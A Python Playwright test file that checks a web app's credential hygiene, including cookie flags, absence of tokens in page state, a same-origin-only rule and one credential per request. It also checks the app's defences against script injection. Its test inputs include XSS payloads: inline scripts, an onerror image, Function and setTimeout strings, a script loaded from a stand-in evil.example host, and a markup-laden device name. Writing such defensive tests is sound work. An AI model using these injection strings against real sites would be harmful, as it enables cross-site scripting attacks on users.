"""No credential is ever where a script, a screenshot or a bug report could find it."""

import pytest
from playwright.async_api import Response, expect

from tests.browser.conftest import NewPhone
from tests.browser.profile import Profile, age, go
from tests.browser.wire import Wire
from tests.house import PASSWORD

pytestmark = pytest.mark.asyncio(loop_scope="session")

DUMP = """async () => JSON.stringify([
  { ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), await caches.keys(),
  document.documentElement.outerHTML, document.cookie, location.href, history.state, document.title,
  performance.getEntries().map((e) => e.name),
])"""


async def test_credentials_are_nowhere_in_the_page(profile: Profile, open_phone: NewPhone, wire: Wire) -> None:
    """Storage, markup, address, history and console hold no token and no password, whatever was done."""
    wire.secrets.clear()
    page = await profile.signed_in()
    dumps = [await page.evaluate(DUMP)]
    for view in ("Devices", "Activity", "Account"):
        await go(page, view)
        await age(page, 11)
        await page.reload()
        await expect(page.get_by_role("heading", level=1)).to_be_visible()
        dumps.append(await page.evaluate(DUMP))
    open_phone().sign_out_others()
    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    dumps.append(await page.evaluate(DUMP))
    everything = "\n".join([*dumps, *profile.console])
    assert len(wire.secrets) >= 6  # access and refresh tokens that came through the wire
    for secret in (*wire.secrets, PASSWORD):
        assert secret not in everything


async def test_script_cannot_read_the_refresh_token(profile: Profile) -> None:
    """The cookies are there, and no script sees them."""
    page = await profile.signed_in()
    assert await profile.cookie()
    assert await page.evaluate("document.cookie") == ""
    assert all(
        one["httpOnly"] and one["secure"] and one["sameSite"] == "Strict" for one in await profile.context.cookies()
    )


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'testRan = 1'; document.body.append(s)",
        "document.body.innerHTML = '<img src=x onerror=\"testRan = 1\">'",
        "document.body.setAttribute('onclick', 'testRan = 1'); document.body.click()",
        "new Function('testRan = 1')()",
        "setTimeout('testRan = 1')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    ],
)
async def test_injected_script_does_not_run(attack: str, profile: Profile) -> None:
    """Content security policy and trusted types stop what an injection could add."""
    page = await profile.open()
    # In a task of its own: what the debugger runs directly is exempt from the policy.
    await page.evaluate(f"new Promise((done) => setTimeout(() => {{ setTimeout(done, 100); {attack} }}))")
    assert await page.evaluate("globalThis.testRan") is None


async def test_name_made_of_markup_is_only_text(profile: Profile, open_phone: NewPhone) -> None:
    """A device may call itself anything."""
    name = '"><img src=x onerror=alert(1)></script>'
    open_phone(name)
    page = await profile.signed_in("devices")
    await expect(page.get_by_role("heading", name=name)).to_be_visible()
    assert await page.locator("main img").count() == 0


async def test_app_talks_to_no_other_origin(profile: Profile, wire: Wire) -> None:
    """Every request of a whole visit goes to our own origin."""
    origins: set[str] = set()
    profile.context.on("request", lambda request: origins.add("/".join(request.url.split("/")[:3])))
    page = await profile.signed_in()
    for view in ("Devices", "Activity", "Account"):
        await go(page, view)
        await expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert origins == {wire.origin}


async def test_bearer_calls_carry_no_cookie_and_cookie_calls_no_bearer(profile: Profile) -> None:
    """One credential a request: never both."""
    answers: list[Response] = []

    def note(answer: Response) -> None:
        answers.append(answer)

    profile.context.on("response", note)
    page = await profile.signed_in()
    await page.reload()
    await expect(page.get_by_text("Latest activity")).to_be_visible()
    doors = [answer for answer in answers if "/v1/spa/refresh" in answer.url]
    calls = [answer for answer in answers if "/v1/" in answer.url and "/v1/spa/" not in answer.url]
    assert calls
    for answer in calls:
        headers = await answer.request.all_headers()
        assert ("authorization" in headers) is ("/v1/passkeys/options" not in answer.url)  # that asks for nobody yet
        assert "cookie" not in headers
    headers = await doors[-1].request.all_headers()
    assert "cookie" in headers
    assert "authorization" not in headers
